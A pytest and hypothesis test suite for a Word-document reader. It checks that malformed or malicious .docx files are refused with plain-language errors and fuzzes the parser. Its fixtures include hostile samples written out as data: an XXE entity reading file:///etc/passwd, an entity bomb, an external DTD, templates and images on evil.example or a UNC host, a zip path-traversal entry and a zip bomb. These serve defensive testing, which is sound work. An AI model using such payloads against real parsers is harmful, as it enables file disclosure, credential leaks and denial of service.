"""Word files that are none, are damaged, or mean harm are refused in words with what to do; nothing is ever fetched."""

import os
import random
import zipfile
from io import BytesIO
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from firebreak.base.errors import WrongInput
from firebreak.plan.folders.writing import dump, file_of
from firebreak.plan.folders.yamls import parse
from firebreak.plan.manuscript import read_manuscript, sections_of
from firebreak.plan.manuscript.making import make
from firebreak.plan.manuscript.package import MOST_XML
from firebreak.plan.manuscript.pieces import Known
from firebreak.plan.manuscript.sections import KINDS, MOST_SECTIONS
from firebreak.plan.tests.word_files import edited, plan_file, swap, word
from firebreak.plan.words import WORDS, say_error

pytestmark = pytest.mark.unit
PLAIN = word(lambda document: document.add_paragraph("HERE"))
LOL = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
SECRET = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
RELS = "word/_rels/document.xml.rels"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ENC = "word/document.xml"


def related(kind: str, target: str, *, outside: bool = True) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    rel = f'<Relationship Id="rId77" Type="{KIND}/{kind}" Target="{target}"{mode}/></Relationships>'
    return edited(PLAIN, **{RELS: swap("</Relationships>", rel)})


def settings_template(target: str) -> bytes:
    rel = f'<Relationship Id="rId1" Type="{KIND}/attachedTemplate" Target="{target}" TargetMode="External"/>'
    all_of_it = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rel}</Relationships>'
    return edited(PLAIN, **{"word/_rels/settings.xml.rels": all_of_it.encode()})


def declared(before: str, after: str = "") -> bytes:
    def change(body: bytes) -> bytes:
        return before.encode() + body.split(b"?>", 1)[1].replace(b"HERE", after.encode() or b"HERE")

    return edited(PLAIN, **{ENC: change})


def zipped(files: list[tuple[str, bytes]]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in files:
            archive.writestr(name, body)
    return out.getvalue()


def parts_of(body: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(BytesIO(body)) as archive:
        return [(name, archive.read(name)) for name in archive.namelist()]


def locked() -> bytes:
    body = bytearray(PLAIN)
    at = 0
    while (at := body.find(b"PK\x01\x02", at + 1)) > 0:
        body[at + 8] |= 1
    return bytes(body)


def otherwise_packed(method: int, *, damaged: bool) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, body in parts_of(PLAIN):
            archive.writestr(name, body)
    packed = bytearray(out.getvalue())
    if damaged:
        at = packed.index(b"[Content_Types].xml") + len("[Content_Types].xml") + 12
        packed[at : at + 20] = b"\xff" * 20
    return bytes(packed)


def excel() -> bytes:
    from openpyxl import Workbook

    out = BytesIO()
    Workbook().save(out)
    return out.getvalue()


COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
UTF16 = ('<?xml version="1.0" encoding="UTF-16"?>' + SECRET[21:]).encode("utf-16")
CASES: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "word.broken"), "text": (b"hello", "word.broken"), "cut off": (PLAIN[:-40], "word.broken"),
    "an old .doc": (COMPOUND, "word.old"), "rtf": (b"{\\rtf1 hello}", "word.old"), "pdf": (b"%PDF-1.7 x", "word.pdf"),
    "a locked document": (COMPOUND + "EncryptedPackage".encode("utf-16-le"), "word.locked"),
    "a locked zip": (locked(), "word.locked"), "a zip of something else": (zipped([("a.txt", b"x")]), "word.not_word"),
    "a spreadsheet": (excel(), "word.not_word"),
    "packed by LZMA": (otherwise_packed(zipfile.ZIP_LZMA, damaged=False), "word.broken"),
    "packed by LZMA and damaged": (otherwise_packed(zipfile.ZIP_LZMA, damaged=True), "word.broken"),
    "no main part": (edited(PLAIN, **{ENC: None}), "word.not_word"),
    "main part is no XML": (edited(PLAIN, **{ENC: b"not xml"}), "word.broken"),
    "macros": (edited(PLAIN, **{"word/vbaProject.bin": b"x"}), "word.macros"),
    "macros by another name": (edited(PLAIN, **{"[Content_Types].xml": swap(
        "wordprocessingml.document.main", "ms-word.document.macroEnabled.main")}), "word.macros"),
    "controls": (edited(PLAIN, **{"word/activeX/activeX1.xml": b"<x/>"}), "word.macros"),
    "a file inside": (edited(PLAIN, **{"word/embeddings/oleObject1.bin": b"x"}), "word.embedded"),
    "an object by relation": (related("oleObject", "other/o.bin", outside=False), "word.embedded"),
    "a piece of HTML": (related("aFChunk", "chunk.html", outside=False), "word.pieces"),
    "a template elsewhere": (settings_template("https://evil.example/t.dotm"), "word.outside"),
    "a template on a server": (settings_template("file://evil/t.dotm"), "word.outside"),
    "a template by UNC": (settings_template("\\\\evil\\t.dotm"), "word.outside"),
    "a picture elsewhere": (related("image", "http://evil.example/p.png"), "word.outside"),
    "an entity bomb": (declared(LOL, "&b;"), "word.entities"),
    "a file by entity": (declared(SECRET, "&x;"), "word.entities"),
    "a DTD elsewhere": (declared('<?xml version="1.0"?><!DOCTYPE w SYSTEM "http://evil.example/d">'), "word.entities"),
    "entities in a part nobody needs": (
        edited(PLAIN, **{"customXml/item1.xml": (SECRET + "<l/>").encode()}), "word.entities"
    ),
    "another encoding": (edited(PLAIN, **{ENC: UTF16 + "<l/>".encode("utf-16")}), "word.broken"),
    "an encoding that hides": (declared('<?xml version="1.0" encoding="UTF-7"?>'), "word.broken"),
    "a path that leads out": (zipped([*parts_of(PLAIN), ("../evil.xml", b"<x/>")]), "word.path"),
    "a part twice": (zipped([*parts_of(PLAIN), ("word/DOCUMENT.xml", b"<x/>")]), "word.twice"),
    "too many parts": (zipped([*parts_of(PLAIN), *((f"x/{n}", b"") for n in range(2_001))]), "word.too_many"),
    "a bomb": (zipped([*parts_of(PLAIN), ("media/x.png", bytes(101 * 1024**2))]), "word.too_large"),
    "too much text": (edited(PLAIN, **{ENC: swap("HERE", "x" * (MOST_XML + 1))}), "word.too_long"),
    "a nest": (edited(PLAIN, **{ENC: swap("HERE", "<w:p>" * 5_000 + "</w:p>" * 5_000)}), "word.broken"),
    "no text": (edited(PLAIN, **{ENC: swap("HERE", " ")}), "word.empty"),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_a_hostile_or_broken_file_is_refused_in_words_with_what_to_do(name: str) -> None:
    body, code = CASES[name]
    with pytest.raises(WrongInput) as caught:
        read_manuscript(body)
    assert caught.value.code == code
    told = say_error(caught.value)
    assert told != code
    assert "Nothing was changed." in told
    assert "{" not in told


def test_every_word_of_refusal_is_met() -> None:
    rare = {"word.gone", "word.link", "word.too_many_sections"}
    assert {code for _body, code in CASES.values()} | rare == {
        code for code in WORDS if code.startswith("word.")
    }


def test_a_template_on_somebodys_own_disk_is_named_and_not_opened() -> None:
    for target in ("file:///C:\\Users\\anna\\Company.dotm", "C:\\Company.dotm", "Company.dotm"):
        assert read_manuscript(settings_template(target)).local_template == "Company.dotm"


def test_too_many_sections_are_refused() -> None:
    def write(document: Any) -> None:
        for number in range(MOST_SECTIONS + 1):
            document.add_heading(f"Rule {number}", 1)
            document.add_paragraph("Text")

    with pytest.raises(WrongInput) as caught:
        sections_of(read_manuscript(word(write)))
    assert caught.value.code == "word.too_many_sections"


def test_twenty_megabytes_of_pictures_are_read_past() -> None:
    picture = random.Random(4).randbytes(19 * 1024**2)
    body = edited(plan_file(), **{"word/media/image1.png": picture})
    assert len(body) > 19 * 1024**2
    assert len(sections_of(read_manuscript(body))) == 7


def read_all(body: bytes) -> None:
    """As the pages do: everything, whatever each section is taken for."""
    try:
        found = sections_of(read_manuscript(body))
    except WrongInput as error:
        assert "Nothing was changed." in say_error(error)  # noqa: PT017 - most are refused, some are not
        return
    for one in found:
        for kind in KINDS:
            item = make(one, kind, "a-key", Known("en")).item
            read = msgspec.convert(
                parse(dump(item)), type(item)
            )  # it goes on as a file, and must come out the same
            assert file_of(item, dump(read)) == dump(item)
            assert kind == "policies" or read == item


WHOLE = plan_file()
EXAMPLES = int(os.environ.get("FIREBREAK_FUZZ", "60"))


@settings(max_examples=EXAMPLES)
@given(at=st.integers(0, len(WHOLE) - 1), put=st.binary(min_size=1, max_size=40), cut=st.booleans())
def test_no_bytes_end_in_an_accident(at: int, put: bytes, cut: bool) -> None:
    read_all(WHOLE[:at] + put + (b"" if cut else WHOLE[at + len(put) :]))


PARTS = dict(parts_of(WHOLE))


@settings(max_examples=EXAMPLES)
@given(
    part=st.sampled_from([ENC, "word/styles.xml", "word/numbering.xml", RELS, "_rels/.rels", "[Content_Types].xml"]),
    where=st.floats(0, 0.999), put=st.sampled_from(
        [b"", b"<", b"</w:p>", b"<w:p>", b"<w:tbl/>", b"<w:tr><w:tc/></w:tr>", b'w:val="-9"', b'="99999999999"', b"<w:t/>",
         b"<w:numPr/>", b"&amp;", b"&#0;", b"\xff", b"\xed\xa0\x80", b"<w:sdt/>", b'<w:gridSpan w:val="0"/>', b"xmlns:w="],
    ), gone=st.integers(0, 60),
)  # fmt: skip
def test_no_xml_ends_in_an_accident(part: str, where: float, put: bytes, gone: int) -> None:
    was = PARTS[part]
    at = int(len(was) * where)
    if put.startswith(b"<"):  # between two tags, so that it is often still XML
        at, gone = max(was.find(b"<", at), 0), 0
    read_all(
        zipped(
            [
                *((name, body) for name, body in PARTS.items() if name != part),
                (part, was[:at] + put + was[at + gone :]),
            ]
        )
    )


@given(
    texts=st.lists(
        st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=60), min_size=1, max_size=6
    )
)
def test_no_text_ends_in_an_accident(texts: list[str]) -> None:
    def write(document: Any) -> None:
        for number, text in enumerate(texts):
            if number % 2:
                document.add_paragraph(text, style="List Number" if number % 3 else None)
            else:
                document.add_heading(text, number % 4)

    read_all(word(write))
